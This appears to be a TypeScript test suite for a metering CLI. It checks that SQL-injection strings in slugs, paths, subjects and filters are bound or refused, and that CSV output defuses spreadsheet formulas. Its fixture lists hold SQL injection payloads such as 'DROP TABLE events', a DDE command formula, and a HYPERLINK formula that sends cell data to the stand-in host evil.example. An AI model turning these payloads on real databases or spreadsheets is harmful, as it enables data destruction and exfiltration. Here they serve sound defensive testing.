/**
 * Injection: meter slugs, JSON paths, group-by keys, event types, subjects and filter values holding quotes, `;`,
 * `--`, `') OR 1=1`, backslashes and NUL are data, never SQL: each is a bound parameter (and then matches only
 * itself) or is refused by validation with exit 2. CSV cells never reach a spreadsheet as formulas.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import { after, before, describe, test } from 'node:test';
import Database from 'better-sqlite3';
import { checkJsonPath } from '../src/core/meter.js';
import { Workdir, line, type RunResult } from './helpers.js';

const HOSTILE = [
  "'",
  '"',
  "a'b",
  'a"b',
  "x'; DROP TABLE events; --",
  "') OR 1=1 --",
  "' OR '1'='1",
  '" OR ""="',
  '1; DELETE FROM events',
  '-- comment',
  '/* c */',
  'a\\b',
  '\\',
  "\\'; DROP TABLE events; --",
  'a\u0000b',
  'tokens\u0000',
  "$.tokens') OR 1=1 --",
  'UNION SELECT * FROM events',
];

const w = new Workdir('injection');
after(() => w.remove());

/** Subjects that are SQL text; each is stored as a customer of its own. */
const SQL_SUBJECTS = ["'; DROP TABLE events; --", "acme') OR 1=1 --", "' OR '1'='1", 'a\\b', '"quoted"', 'x;y', '-- c', 'plain'];
/** Subjects a spreadsheet would run as formulas. */
const FORMULA_SUBJECTS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+2',
  '\r=1+2',
  "=cmd|' /C calc'!A0",
];
const FORMULA_MODELS = ['=1+1', '+gpt', '-gpt', '@gpt', '\tgpt', '\rgpt'];
/** Data keys that are SQL-ish yet valid JSON path steps. */
const ODD_KEYS = ['a;b', 'c--d', 'e)OR(1=1', 'f=1', 'g*/'];

let rows = 0;
/** Expected per-subject token totals. */
const bySubject = new Map<string, number>();

function meterYaml(meters: unknown[]): string {
  // JSON is YAML: every hostile string is written exactly, escapes included.
  return JSON.stringify({ meters }, null, 2);
}

const BASE_METERS = [
  { slug: 'tokens', eventType: 'prompt', aggregation: 'SUM', valueProperty: '$.tokens', groupBy: { model: '$.model' } },
  { slug: 'events', eventType: 'prompt', aggregation: 'COUNT' },
  { slug: 'hostile_type', eventType: "prompt'); DROP TABLE events; --", aggregation: 'COUNT' },
  ...ODD_KEYS.map((k, i) => ({
    slug: `odd_${i}`,
    eventType: 'prompt',
    aggregation: 'SUM',
    valueProperty: `$.${k}`,
    groupBy: { g: `$.${k}` },
  })),
];

before(() => {
  const lines: string[] = [];
  let n = 0;
  const add = (subject: string, tokens: number, model: string, extra: Record<string, unknown> = {}, type = 'prompt') => {
    lines.push(line({ id: `i${n++}`, subject, type, data: { tokens, model, ...extra } }));
    rows++;
    if (type === 'prompt') bySubject.set(subject, (bySubject.get(subject) ?? 0) + tokens);
  };
  SQL_SUBJECTS.forEach((s, i) => add(s, 10 + i, 'gpt-4o'));
  FORMULA_SUBJECTS.forEach((s, i) => add(s, 100 + i, FORMULA_MODELS[i % FORMULA_MODELS.length]!));
  add('credits', -5, 'gpt-4o');
  add('plain', 1, "x' OR 'a'='a");
  add('plain', 2, 'with\u0000nul');
  add('plain', 3, 'gpt-4o', Object.fromEntries(ODD_KEYS.map((k, i) => [k, i + 1])));
  add("prompt'); DROP TABLE events; --", 7, 'gpt-4o', {}, "prompt'); DROP TABLE events; --");
  w.write('e.ndjson', lines);
  w.write('meter.yaml', meterYaml(BASE_METERS));
  const r = w.run(['ingest', 'e.ndjson', '--json']);
  assert.equal(r.code, 0, r.describe());
  assert.equal(JSON.parse(r.stdout).inserted, rows);
});

/** The store is intact: every table and row still there. */
function assertIntact(after: string): void {
  const db = new Database(w.path('meter.db'), { readonly: true });
  try {
    const tables = db.prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name").pluck().all();
    assert.ok(tables.includes('events'), `${after}: events table gone (${tables.join(', ')})`);
    assert.equal(db.prepare('SELECT count(*) FROM events').pluck().get(), rows, `${after}: rows lost`);
  } finally {
    db.close();
  }
}

function assertUsage(r: RunResult, what: string): void {
  assert.equal(r.code, 2, `${what}: expected exit 2\n${r.describe()}`);
  assert.doesNotMatch(r.stderr, /internal error|\n\s+at /, r.describe());
}

/** RFC 4180 CSV parser (quoted cells with "" escapes, CR/LF inside quotes). */
function parseCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [],
    cell = '',
    q = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (q) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') q = false;
      else cell += c;
    } else if (c === '"' && cell === '') q = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      out.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length) {
    row.push(cell);
    out.push(row);
  }
  return out;
}

function csvQuery(args: string[]): string[][] {
  const r = w.run(['query', ...args, '--format', 'csv']);
  assert.equal(r.code, 0, r.describe());
  return parseCsv(r.stdout);
}

describe('injection', () => {
  test('hostile slugs, group-by keys and JSON paths are refused by config validation (exit 2), nothing runs', () => {
    // One config per kind, one meter per hostile string: validation names every problem, so each string must be
    // named in the message (and none of them reaches SQL, since nothing runs).
    const kinds: Array<[string, (h: string, i: number) => Record<string, unknown> | null]> = [
      ['slug', (h) => ({ slug: h, eventType: 'prompt', aggregation: 'COUNT' })],
      ['groupBy key', (h, i) => ({ slug: `m${i}`, eventType: 'prompt', aggregation: 'COUNT', groupBy: { [h]: '$.model' } })],
      [
        'valueProperty',
        (h, i) => {
          const p = h.startsWith('$.') ? h : `$.${h}`;
          // A path that passes validation is a bound parameter: such paths are tested as data below.
          return checkJsonPath(p) === null ? null : { slug: `m${i}`, eventType: 'prompt', aggregation: 'SUM', valueProperty: p };
        },
      ],
      [
        'groupBy path',
        (h, i) =>
          checkJsonPath(`$.a${h}`) === null
            ? null
            : { slug: `m${i}`, eventType: 'prompt', aggregation: 'COUNT', groupBy: { k: `$.a${h}` } },
      ],
      ['aggregation', (h, i) => ({ slug: `m${i}`, eventType: 'prompt', aggregation: `SUM${h}`, valueProperty: '$.tokens' })],
    ];
    for (const [kind, make] of kinds) {
      const meters = HOSTILE.map(make).filter((m) => m !== null);
      assert.ok(meters.length >= HOSTILE.length - 1, `${kind}: most hostile strings are invalid`);
      fs.writeFileSync(w.path('bad.yaml'), meterYaml(meters));
      for (const cmd of [
        ['query', '--config', 'bad.yaml'],
        ['ingest', '--config', 'bad.yaml', 'e.ndjson'],
        ['meters', '--config', 'bad.yaml'],
      ]) {
        const r = w.run(cmd);
        assertUsage(r, `${kind} (${cmd[0]})`);
        assert.match(r.stderr, /invalid meter config bad\.yaml/, r.describe());
        const problems = r.stderr.split('\n').filter((l) => /^\s+line \d+: meter /.test(l));
        assert.ok(
          problems.length >= meters.length,
          `${kind}: ${problems.length} problems for ${meters.length} bad meters\n${r.describe()}`,
        );
      }
    }
    assertIntact('hostile configs');
  });

  test('SQL-looking but valid JSON path steps are data: each sums and groups its own key', () => {
    ODD_KEYS.forEach((k, i) => {
      const rows = csvQuery(['-m', `odd_${i}`, '--all-subjects']);
      assert.equal(rows[1]!.at(-1), String(i + 1), `$.${k}`);
      const grouped = csvQuery(['-m', `odd_${i}`, '--all-subjects', '-g', 'g', '-f', `g=${i + 1}`]);
      assert.deepEqual(
        grouped.slice(1).map((r) => r.slice(2)),
        [['', String(i + 1), String(i + 1)]],
        `$.${k} grouped`,
      );
    });
    assertIntact('odd paths');
  });

  test('an event type holding SQL is a bound value: it counts its own events only', () => {
    const rows = csvQuery(['-m', 'hostile_type', '--all-subjects']);
    assert.equal(rows.length, 2);
    assert.equal(rows[1]!.at(-1), '1');
    const ev = w.run(['events', '--type', "prompt'); DROP TABLE events; --", '--format', 'ndjson']);
    assert.equal(ev.code, 0, ev.describe());
    assert.equal(ev.stdout.trimEnd().split('\n').length, 1);
    const none = w.run(['events', '--type', "prompt' OR 1=1 --", '--format', 'ndjson', '-n', '1000']);
    assert.equal(none.code, 0);
    assert.equal(none.stdout, '');
    assertIntact('hostile event type');
  });

  test('subjects and filter values holding SQL match only themselves', () => {
    const per = csvQuery(['-m', 'tokens']);
    const got = new Map(per.slice(1).map((r) => [r[2]!.replace(/^'(?=[=+\-@\t\r'])/, ''), r.at(-1)!]));
    assert.deepEqual(got, new Map([...bySubject].map(([s, v]) => [s, String(v)])));
    for (const s of SQL_SUBJECTS) {
      const one = csvQuery(['-m', 'tokens', '-s', s]);
      assert.equal(one.length, 2, `-s ${s}: ${JSON.stringify(one)}`);
      assert.equal(one[1]![2], /^[-']/.test(s) ? `'${s}` : s);
      assert.equal(one[1]!.at(-1), String(bySubject.get(s)));
    }
    for (const s of ["nobody' OR '1'='1", "') OR 1=1 --", '%', '*']) {
      assert.equal(csvQuery(['-m', 'tokens', '-s', s]).length, 1, `-s ${s} matched something`);
      assert.equal(csvQuery(['-m', 'tokens', '-g', 'model', '-f', `model=${s}`]).length, 1, `-f model=${s} matched something`);
      const ev = w.run(['events', '-s', s, '--format', 'ndjson']);
      assert.equal(ev.code, 0, ev.describe());
      assert.equal(ev.stdout, '', `events -s ${s}`);
    }
    // A filter value that is SQL matches the one event whose model is that text.
    const f = csvQuery(['-m', 'tokens', '-g', 'model', '--all-subjects', '-f', "model=x' OR 'a'='a"]);
    assert.deepEqual(
      f.slice(1).map((r) => r.slice(3)),
      [["x' OR 'a'='a", '1']],
    );
    // Group-by keys and meters that are not configured are refused, not pasted.
    for (const h of ["x'; DROP TABLE events; --", "') OR 1=1 --", '" OR ""="', 'a\\b; --']) {
      assertUsage(w.run(['query', '-m', 'tokens', '-g', h]), `-g ${h}`);
      assertUsage(w.run(['query', '-m', 'tokens', '-f', `${h}=1`]), `-f ${h}=1`);
      assertUsage(w.run(['query', '-m', h]), `-m ${h}`);
      assertUsage(w.run(['query', '-m', 'tokens', '--tz', h]), `--tz ${h}`);
      assertUsage(w.run(['query', '-m', 'tokens', '-w', h]), `-w ${h}`);
      assertUsage(w.run(['query', '-m', 'tokens', '--from', h]), `--from ${h}`);
    }
    assertIntact('hostile subjects and filters');
  });

  test('a group value holding NUL is data: it is its own group', () => {
    const rows = csvQuery(['-m', 'tokens', '-g', 'model', '-s', 'plain']);
    const models = rows.slice(1).map((r) => r[3]);
    assert.ok(models.includes('with\u0000nul'), JSON.stringify(models));
    assert.equal(
      rows
        .slice(1)
        .find((r) => r[3] === 'with\u0000nul')!
        .at(-1),
      '2',
    );
  });

  test('a store path holding quotes and semicolons is just a file name', () => {
    const db = "we'ird; DROP TABLE events; --.db";
    const r = w.run(['ingest', 'e.ndjson', '--db', db, '--json']);
    assert.equal(r.code, 0, r.describe());
    assert.ok(fs.existsSync(w.path(db)));
    const q = w.run(['query', '--db', db, '-m', 'events', '--all-subjects', '--format', 'csv']);
    assert.equal(q.stdout.trimEnd().split('\n')[1]!.split(',').at(-1), String(rows - 1));
  });

  test('CSV: subject and group cells starting with = + - @ tab or CR are defused with a leading quote; numbers stay numbers', () => {
    for (const args of [
      ['-m', 'tokens'],
      ['-m', 'tokens', '-g', 'model'],
      ['-m', 'tokens', '-g', 'model', '-w', 'day', '--tz', 'Europe/Budapest'],
    ]) {
      const r = w.run(['query', ...args, '--format', 'csv', '-o', 'out.csv']);
      assert.equal(r.code, 0, r.describe());
      const table = parseCsv(w.read('out.csv'));
      const header = table[0]!;
      assert.equal(header.at(-1), 'value');
      for (const row of table.slice(1)) {
        assert.equal(row.length, header.length, `ragged row ${JSON.stringify(row)}`);
        row.forEach((cell, i) => {
          if (i === row.length - 1) {
            assert.match(cell, /^-?\d+(\.\d+)?$/, `value cell ${JSON.stringify(cell)} is not a plain number`);
          } else {
            assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)} of ${header[i]} reaches a spreadsheet as a formula`);
          }
        });
      }
      const subjects = table.slice(1).map((x) => x[2]!);
      for (const s of FORMULA_SUBJECTS)
        assert.ok(subjects.includes(`'${s}`), `${JSON.stringify(s)} not defused as '${JSON.stringify(s)}: ${JSON.stringify(subjects)}`);
      if (args.includes('model')) {
        const models = table.slice(1).map((x) => x[3]!);
        for (const m of FORMULA_MODELS) assert.ok(models.includes(`'${m}`), `${JSON.stringify(m)} not defused: ${JSON.stringify(models)}`);
      }
      // A negative total (credits) is a number, not defused text.
      const credits = table.find((x) => x[2] === 'credits');
      assert.ok(credits);
      assert.equal(credits.at(-1), '-5');
    }
    // The same on stdout.
    const out = w.run(['query', '-m', 'tokens', '--format', 'csv']);
    assert.ok(
      parseCsv(out.stdout)
        .slice(1)
        .every((r) => !/^[=+\-@\t\r]/.test(r[2]!)),
    );
    assertIntact('csv');
  });
});
